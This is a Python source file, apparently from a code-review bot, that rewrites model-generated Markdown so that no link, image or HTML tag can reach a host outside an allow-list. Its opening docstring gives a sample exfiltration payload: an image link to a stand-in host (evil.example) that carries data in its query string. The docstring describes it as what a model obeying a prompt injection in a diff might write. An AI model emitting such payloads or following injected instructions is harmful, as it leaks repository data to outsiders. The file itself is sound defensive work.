"""Make untrusted text inert: no link, image or HTML in it may point outside an allow-list of hosts.

Model output (and analyzer text) is published as Markdown: in PR comments, the job summary, SARIF help text. A model
that obeys an injection in the diff can write ``![x](https://evil.example/p.png?d=DATA)``: GitHub's image proxy fetches
it whenever the PR is viewed, and the data leaves. ``neutralize`` rewrites such text:

- an image (Markdown, reference-style, or HTML ``<img>``/``<picture>``/``<video>``...) on an outside host becomes
  ``[image removed: evil[.]example]``;
- a link (inline, reference-style, HTML ``<a>``) becomes its text followed by ``[link removed: evil[.]example]``, and
  an outside reference definition (``[1]: https://evil.example``) is dropped;
- an autolink ``<https://...>`` and a bare URL (``https://...``, ``www....``: GFM links those) become a defanged
  ``hxxps[:]//evil[.]example/…`` (the host stays readable, nothing is clickable, the path and query are not shown).

Relative links (they stay on the repository's own host) and links to allowed hosts are kept. Destinations are read
as a browser would (``reviewbot.urls``), so encodings do not smuggle a host past the check. The rewrite (regexes for the CommonMark
forms, repeated until nothing changes) is then checked by a real CommonMark parser (markdown-it-py, with the GFM
autolink forms checked in every text, code and HTML token); text that still leaks is decoded and rewritten again,
and as a last resort every link syntax in it is escaped.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Callable, Iterable, Iterator
from typing import TYPE_CHECKING

from reviewbot.urls import BARE, LinkPolicy, bare_target, decode, shown

if TYPE_CHECKING:
    from markdown_it import MarkdownIt
    from markdown_it.token import Token

__all__ = ["BARE", "REMOVED_TEXT", "LinkPolicy", "leaks", "neutralize", "shown"]


@functools.lru_cache(maxsize=1)
def _markdown() -> MarkdownIt:
    """CommonMark with raw HTML on, as GitHub (plus GFM autolinks, checked by hand); imported on first use, since
    most texts hold nothing that could be a link and a commit hook should not pay for the parser."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark")

_ENTITY = re.compile(r"&(?:#[0-9]{1,7}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*)>")
_TRAILING = re.compile(r"[.,:;!?*_~'\")\]]+$")
_DEFINITION = re.compile(
    r"^ {0,3}\[((?:\\.|[^\[\]\\]){1,999})\]:[ \t]*\n?[ \t]*(<[^<>\n]*>|[^\s<]\S*)[^\n]*(?:\n|$)", re.M
)
_ATTR_TEXT = r"""\s+[A-Za-z_:][A-Za-z0-9_.:-]*(?:\s*=\s*(?:[^\s"'=<>`]+|'[^']*'|"[^"]*"))?"""
_OPEN_TAG = re.compile(rf"<([A-Za-z][A-Za-z0-9-]*)((?:{_ATTR_TEXT})*)\s*/?>")
_CLOSE_TAG = re.compile(r"</([A-Za-z][A-Za-z0-9-]*)\s*>")
_ATTR = re.compile(r"""([A-Za-z_:][A-Za-z0-9_.:-]*)(?:\s*=\s*([^\s"'=<>`]+|'[^']*'|"[^"]*"))?""")
_CSS_URL = re.compile(r"(?i)url\(\s*['\"]?([^'\")]*)")
_URL_ATTRS = frozenset({
    "href", "src", "srcset", "poster", "data", "action", "formaction", "background", "cite", "longdesc", "lowsrc",
    "dynsrc", "codebase", "ping", "manifest", "xlink:href", "imagesrcset", "archive", "icon", "content",
})
_MEDIA = frozenset({"img", "image", "picture", "source", "video", "audio", "track", "svg", "input", "embed",
                    "object", "iframe", "frame", "body", "table", "td", "th", "use", "feimage"})
_HINTS = (":", "www.", "<", "[", "&", "\\")  # text without any of these cannot hold a link
MAX_LINK_TEXT = 1000  # longer link text, or a longer destination, is not parsed as a link (the check catches it)
MAX_ROUNDS = 50
REMOVED_TEXT = "[text removed: it could not be made safe to publish]"


def _removed(kind: str, where: tuple[str, str]) -> str:
    return f"[{kind} removed: {shown(where)}]"


def _defanged(url: str, where: tuple[str, str]) -> str:
    scheme, host = where
    if not host:
        return _removed("link", where)
    prefix = {"http": "hxxp", "https": "hxxps", "ftp": "fxp"}.get(scheme, scheme)
    head = f"{prefix}[:]//{shown(where)}" if prefix else shown(where)
    rest = re.split(r"[/?#]", url.split("//", 1)[-1] if "//" in url else url, maxsplit=1)
    return head + ("/…" if len(rest) > 1 and rest[1] else "")


# ---------------------------------------------------------------- the rewrite


def _bare(text: str, policy: LinkPolicy) -> str:
    def sub(m: re.Match[str]) -> str:
        url, rest = m.group(0), ""
        cut = _ENTITY.search(url)  # an entity ends the URL as shown here (``&quot;`` after an attribute value)
        if cut is not None:
            url, rest = url[: cut.start()], url[cut.start() :]
        tail = _TRAILING.search(url)
        if tail is not None:
            url, rest = url[: tail.start()], tail.group(0) + rest
        where = policy.outside(bare_target(url))
        return m.group(0) if where is None else _defanged(url, where) + rest

    return BARE.sub(sub, text)


def _autolinks(text: str, policy: LinkPolicy) -> str:
    def sub(m: re.Match[str]) -> str:
        where = policy.outside(m.group(1))
        return m.group(0) if where is None else _defanged(m.group(1), where)

    return _AUTOLINK.sub(sub, text)


def _tag_urls(attrs: str) -> Iterator[str]:
    for m in _ATTR.finditer(attrs):
        name, value = m.group(1).lower(), (m.group(2) or "").strip("'\"")
        if name in _URL_ATTRS:
            yield from (part.split()[0] for part in value.split(",") if part.split()) if "srcset" in name else (value,)
        elif name == "style":
            yield from _CSS_URL.findall(decode(value))


def _html(text: str, policy: LinkPolicy) -> str:
    removed: set[str] = set()

    def sub(m: re.Match[str]) -> str:
        tag = m.group(1).lower()
        for url in _tag_urls(m.group(2)):
            where = policy.outside(url)
            if where is not None:
                removed.add(tag)
                return _removed("image" if tag in _MEDIA else "link", where) + " "
        return m.group(0)

    text = _OPEN_TAG.sub(sub, text)
    if removed:
        text = _CLOSE_TAG.sub(lambda m: "" if m.group(1).lower() in removed else m.group(0), text)
    return text


def _label_key(label: str) -> str:
    return " ".join(label.split()).casefold()


def _definitions(text: str, policy: LinkPolicy) -> tuple[str, dict[str, tuple[str, str]]]:
    labels: dict[str, tuple[str, str]] = {}

    def sub(m: re.Match[str]) -> str:
        dest = m.group(2)
        where = policy.outside(dest[1:-1] if dest.startswith("<") else dest)
        if where is None or not m.group(1).strip():
            return m.group(0)
        labels.setdefault(_label_key(m.group(1)), where)
        return ""

    return _DEFINITION.sub(sub, text), labels


def _bracket_pairs(text: str) -> dict[int, int]:
    """Each ``[`` (not backslash-escaped) -> its matching ``]``, in one pass."""
    pairs: dict[int, int] = {}
    stack: list[int] = []
    k, n = 0, len(text)
    while k < n:
        c = text[k]
        if c == "\\":
            k += 2
            continue
        if c == "[":
            stack.append(k)
        elif c == "]" and stack:
            start = stack.pop()
            if k - start <= MAX_LINK_TEXT:
                pairs[start] = k
        k += 1
    return pairs


def _skip_space(text: str, k: int) -> int:
    newline = False
    while k < len(text) and text[k] in " \t\n":
        if text[k] == "\n":
            if newline:
                break
            newline = True
        k += 1
    return k


def _inline_destination(text: str, at: int) -> tuple[str, int] | None:
    """(destination, end) of ``(dest "title")`` starting at ``at``; None when it is not one."""
    n = len(text)
    k = _skip_space(text, at + 1)
    if k < n and text[k] == "<":
        end = k + 1
        while end < n and text[end] not in "<>\n":
            end += 2 if text[end] == "\\" else 1
        if end >= n or text[end] != ">":
            return None
        dest, k = text[k + 1 : end], end + 1
    else:
        start, depth, limit = k, 0, min(n, k + MAX_LINK_TEXT)
        while k < limit:
            c = text[k]
            if c == "\\":
                k += 2
                continue
            if c.isspace() or ord(c) < 0x20 or (c == ")" and depth == 0):
                break
            depth += {"(": 1, ")": -1}.get(c, 0)
            k += 1
        if k >= limit and limit < n:
            return None
        dest, k = text[start:k], min(k, n)
    after = _skip_space(text, k)
    if after > k and after < n and text[after] in "\"'(":
        close = ")" if text[after] == "(" else text[after]
        t, limit = after + 1, min(n, after + MAX_LINK_TEXT)
        while t < limit and text[t] != close:
            t += 2 if text[t] == "\\" else 1
        after = _skip_space(text, t + 1)
    if after < n and text[after] == ")":
        return dest, after + 1
    return None


def _replacement(image: bool, inner: str, where: tuple[str, str]) -> str:
    if image:
        return _removed("image", where)
    return f"{inner} {_removed('link', where)}" if inner.strip() else _removed("link", where)


def _links(text: str, policy: LinkPolicy, labels: dict[str, tuple[str, str]]) -> str:
    out: list[str] = []
    pairs = _bracket_pairs(text)
    i, n = 0, len(text)
    while i < n:
        ch = text[i]
        if ch == "\\":
            out.append(text[i : i + 2])
            i += 2
            continue
        image = ch == "!" and text.startswith("[", i + 1)
        if ch != "[" and not image:
            out.append(ch)
            i += 1
            continue
        opening = i + 1 if image else i
        close = pairs.get(opening)
        if close is None:
            out.append(ch)
            i += 1
            continue
        inner, after = text[opening + 1 : close], close + 1
        parsed = _inline_destination(text, after) if text.startswith("(", after) else None
        where, end = None, after
        if parsed is not None:
            where, end = policy.outside(parsed[0]), parsed[1]
        elif labels:
            label, end = inner, after
            if text.startswith("[", after):
                shut = text.find("]", after)
                if shut != -1:
                    label, end = text[after + 1 : shut] or inner, shut + 1
            where = labels.get(_label_key(label))
        if where is None:
            out.append(ch)
            i += 1
            continue
        out.append(_replacement(image, inner, where))
        i = end
    return "".join(out)


def _round(text: str, policy: LinkPolicy) -> str:
    text = _html(text, policy)
    text, labels = _definitions(text, policy)
    text = _links(text, policy, labels)
    return _bare(_autolinks(text, policy), policy)


def _rewrite(text: str, policy: LinkPolicy) -> str:
    for _ in range(MAX_ROUNDS):
        again = _round(text, policy)
        if again == text:
            break
        text = again
    return text


# ---------------------------------------------------------------- the check


def _walk(tokens: Iterable[Token]) -> Iterator[Token]:
    for tok in tokens:
        yield tok
        if tok.children:
            yield from _walk(tok.children)


def leaks(text: str, policy: LinkPolicy) -> list[tuple[str, str]]:
    """Every outside target a CommonMark + GFM renderer would make of ``text`` (link, image, HTML, autolink)."""
    found: list[tuple[str, str]] = []

    def check(url: str) -> None:
        where = policy.outside(url)
        if where is not None:
            found.append(where)

    for tok in _walk(_markdown().parse(text)):
        if tok.type == "link_open":
            check(str(tok.attrGet("href") or ""))
        elif tok.type == "image":
            check(str(tok.attrGet("src") or ""))
        if tok.type in ("html_inline", "html_block"):
            for m in _OPEN_TAG.finditer(tok.content):
                for url in _tag_urls(m.group(2)):
                    check(url)
        if tok.type in ("text", "code_inline", "code_block", "fence", "html_inline", "html_block"):
            for m in BARE.finditer(tok.content):
                check(bare_target(_TRAILING.sub("", m.group(0))))
    return found


def _escape_all(text: str) -> str:
    """The last resort: no scheme, no www., no brackets, no HTML; nothing in it can be a link."""
    text = decode(text)
    text = re.sub(r"(?i)([a-z0-9+.\-]):(?=[/\\])", r"\1[:]", text)
    text = re.sub(r"(?i)www\.", "www[.]", text)
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return re.sub(r"([\[\]])", r"\\\1", text)


def neutralize(text: str, policy: LinkPolicy, *, rewrite: Callable[[str, LinkPolicy], str] = _rewrite) -> str:
    """``text`` with every link, image and HTML that leads outside ``policy`` removed or defanged."""
    if not any(h in text for h in _HINTS):
        return text
    out = rewrite(text, policy)
    if not leaks(out, policy):
        return out
    out = rewrite(decode(out), policy)
    if not leaks(out, policy):
        return out
    out = _escape_all(out)
    return out if not leaks(out, policy) else REMOVED_TEXT
